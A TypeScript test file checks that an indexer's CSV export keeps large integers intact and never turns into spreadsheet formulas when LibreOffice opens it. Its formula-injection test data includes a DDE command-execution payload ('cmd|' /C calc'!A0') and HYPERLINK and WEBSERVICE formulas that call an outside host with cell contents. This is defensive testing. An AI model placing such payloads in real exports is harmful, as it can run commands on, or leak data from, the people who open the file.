import { execFileSync } from 'node:child_process'
import fs from 'node:fs'
import os from 'node:os'
import path from 'node:path'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { EXPORT_REQUEST, EXPORT_SUMMARY } from '@/lib/testing/exports'
import { addressOf, makeAccounts, makeTokenAccounts } from '@/lib/testing/stand-in/fixtures'
import { describeWith, pathOfTool } from '@/lib/testing/tools'
import { fileColumns, rowColumns } from '../../account/file-columns'
import { csvFields, csvRecords } from '../../format/csv'
import type { Items, RowsName } from '../../protocol/rpc/items'
import { exportHead, exportRows, exportTail } from './document'
import { Totals } from './totals'

/* Headless LibreOffice saves as flat XML, which names each cell's type. facts/reliability.md S13, features.md a23. */

/** LibreOffice's import options. The second also recognises dates and formulas, which it does not by default. */
const READINGS = {
  'as it opens': '44,34,76,1',
  'with dates recognised and formulas evaluated': '44,34,76,1,,1033,false,true,false,false,false,0,true',
}

interface Cell {
  type: string
  text: string
  value: string
  formula: string | null
}

let folder: string

beforeAll(() => {
  folder = fs.mkdtempSync(path.join(os.tmpdir(), 'leafscan-sheet-'))
})

afterAll(() => fs.rmSync(folder, { recursive: true, force: true }))

function opened(csv: string, reading: string): Cell[][] {
  const file = path.join(folder, 'export.csv')
  fs.writeFileSync(file, csv)
  const profile = `-env:UserInstallation=file://${path.join(folder, 'profile')}`
  const filter = `--infilter=CSV:${reading}`
  const args = [profile, '--headless', filter, '--convert-to', 'fods', '--outdir', folder, file]
  execFileSync(String(pathOfTool('soffice')), args, { timeout: 180_000, stdio: 'pipe' })
  return cellsOf(fs.readFileSync(path.join(folder, 'export.fods'), 'utf8'))
}

function cellsOf(xml: string): Cell[][] {
  const rows: Cell[][] = []
  for (const [, rowTag = '', inRow = ''] of xml.matchAll(
    /<table:table-row\b([^>]*[^/])?>([\s\S]*?)<\/table:table-row>/g,
  )) {
    const cells: Cell[] = []
    for (const [, tag = '', inCell = ''] of inRow.matchAll(
      /<table:table-cell\b([^>]*?)(?:\/>|>([\s\S]*?)<\/table:table-cell>)/g,
    )) {
      const attribute = (name: string) => new RegExp(`\\b${name}="([^"]*)"`).exec(tag)?.[1]
      const paragraphs = [...inCell.matchAll(/<text:p>([\s\S]*?)<\/text:p>/g)].map(([, text = '']) => plain(text))
      const cell = {
        type: attribute('office:value-type') ?? '',
        text: paragraphs.join('\n'),
        value: attribute('office:value') ?? '',
        formula: attribute('table:formula') ?? null,
      }
      const times = Number(attribute('table:number-columns-repeated') ?? 1)
      for (let i = 0; i < Math.min(times, 100); i++) cells.push(cell)
    }
    const times = Number(/number-rows-repeated="(\d+)"/.exec(rowTag)?.[1] ?? 1)
    for (let i = 0; i < Math.min(times, 100); i++) rows.push(cells)
  }
  return rows
}

function plain(xml: string): string {
  return xml
    .replaceAll(/<text:s(?: text:c="(\d+)")?\/>/g, (_, count = '1') => ' '.repeat(Number(count)))
    .replaceAll('<text:tab/>', '\t')
    .replaceAll(/<[^>]+>/g, '')
    .replaceAll(/&#(\d+);/g, (_, code) => String.fromCodePoint(Number(code)))
    .replaceAll('&lt;', '<')
    .replaceAll('&gt;', '>')
    .replaceAll('&quot;', '"')
    .replaceAll('&apos;', "'")
    .replaceAll('&amp;', '&')
}

function fileOf<R extends RowsName>(kind: R, rows: readonly Items[R][]): string {
  const params = { owner: OWNER, filters: [{ memcmp: { offset: 0, bytes: 'a' } }] }
  const request = { ...EXPORT_REQUEST, rows: kind, params, network: 'test, with; separators' }
  const end = { ...EXPORT_SUMMARY, rows: rows.length, totals: new Totals(kind, {}).addRows(rows).read() }
  return exportHead('csv', request) + exportRows('csv', kind, rows) + exportTail('csv', end)
}

function below(cells: Cell[][], kind: RowsName, count: number): Cell[][] {
  const [first] = rowColumns[kind]
  const names = cells.findIndex(([cell]) => cell?.text === first?.name)
  expect(names).toBeGreaterThan(0)
  return cells.slice(names + 1, names + 1 + count)
}

const OWNER = addressOf('owner in a sheet')
const EDGES = [
  0n,
  1n,
  999_999_999_999_999n,
  2n ** 53n - 1n,
  9_007_199_254_740_995n,
  123_456_789_012_345_678n,
  2n ** 64n - 1n,
]

for (const [name, reading] of Object.entries(READINGS)) {
  describeWith('soffice', `a CSV file opened by LibreOffice ${name}`, () => {
    test('keeps every digit of every integer and every identifier', () => {
      const kind = 'accounts'
      // Identifiers that look like numbers: digits, and digits with one e.
      const odd = [
        '1'.repeat(32),
        `1e${'1'.repeat(30)}`,
        `12E${'2'.repeat(40)}`,
        `${'9'.repeat(20)}E5${'1'.repeat(10)}`,
      ]
      const rows = makeAccounts(OWNER, 60).map((row, i) => ({
        ...row,
        address: odd[i % odd.length] as string,
        lamports: EDGES[i % EDGES.length] as bigint,
        seq: EDGES[(i + 3) % EDGES.length] as bigint,
        data: {
          discriminator: EDGES[(i + 1) % EDGES.length] as bigint,
          data: ['1234', '0012', '1E12', 'TRUE', 'DEC1', '1MAY', 'AQAAAA==', '12/3', '1/2/', ''][i % 10] as string,
          dataHash: row.hash,
        },
      }))
      const cells = opened(fileOf(kind, rows), reading)
      const shown = below(cells, kind, rows.length)
      expect(shown).toHaveLength(rows.length)
      shown.forEach((cell, i) => {
        const row = rows[i] as (typeof rows)[number]
        const { hash, address, owner, lamports, data, tree, leafIndex, seq, slotCreated } = row
        const { discriminator, data: bytes, dataHash } = data
        const expected = [
          ...[hash, address, owner, lamports, discriminator, bytes, dataHash],
          ...[tree, leafIndex, seq, slotCreated],
        ]
        expect(cell.slice(0, expected.length).map(({ text }) => text.replace(/^'/, ''))).toEqual(
          expected.map((value) => String(value ?? '')),
        )
        // A sum takes the numbers alone.
        expect(cell[3]?.type).toBe(lamports < 10n ** 15n ? 'float' : 'string')
        for (const { type, text, value } of cell) {
          expect(['', 'string', 'float']).toContain(type)
          if (type === 'float') expect(value).toBe(text)
        }
      })
    })

    test('holds no formula whatever an indexer writes, and nothing of it leaves its cell', () => {
      const kind = 'tokenAccounts'
      const beginnings = [...'=+-@\t\r\n\0＝＋－＠ "\';,\u202e\ufeff\u0007']
      const payloads = [
        '1+1',
        'SUM(A1:A9)',
        "cmd|' /C calc'!A0",
        'HYPERLINK("http://example.com?x="&A1,"here")',
        'WEBSERVICE("http://example.com")',
      ]
      const poisons = [
        ...beginnings.flatMap((first) => payloads.map((payload) => first + payload)),
        ...beginnings.flatMap((first) => beginnings.map((second) => `${first}${second}=1+1`)),
        'a;=1+1',
        'a\t=1+1',
        'a,=1+1',
        'a\r\n=1+1',
        'a"\r\n=1+1,"',
        '"=1+1"',
        '\u202eabc',
        '\u2066=1+1',
        'שלום=1',
        '\u0001\u0002\u0003',
      ]
      const rows = makeTokenAccounts(addressOf('delegate in a sheet'), poisons.length).map((row, i) => {
        const text = poisons[i] as string
        return { account: { ...row.account, address: text }, tokenData: { ...row.tokenData, mint: text, tlv: text } }
      })
      const csv = fileOf(kind, rows)
      const cells = opened(csv, reading)
      const formulas = cells
        .flat()
        .filter(({ formula, type }) => formula !== null || !['', 'string', 'float'].includes(type))
      expect(formulas).toEqual([])
      const names = fileColumns(kind, {}).map(({ name }) => name)
      const hash = names.indexOf('account.hash')
      const rowByHash = new Map(cells.map((row) => [row[hash]?.text, row]))
      for (const row of rows) {
        const shown = rowByHash.get(row.account.hash)
        expect(shown?.[names.indexOf('tokenData.owner')]?.text).toBe(row.tokenData.owner)
        expect(shown?.[names.indexOf('account.slotCreated')]?.text).toBe(String(row.account.slotCreated))
        expect(shown?.[names.indexOf('tokenData.amount')]?.text.replace(/^'/, '')).toBe(String(row.tokenData.amount))
      }
      expect(
        csvRecords(csv).filter(
          (record) => csvFields(record)[hash] !== undefined && csvFields(record).length === names.length,
        ),
      ).toHaveLength(rows.length + 1)
    })
  })
}
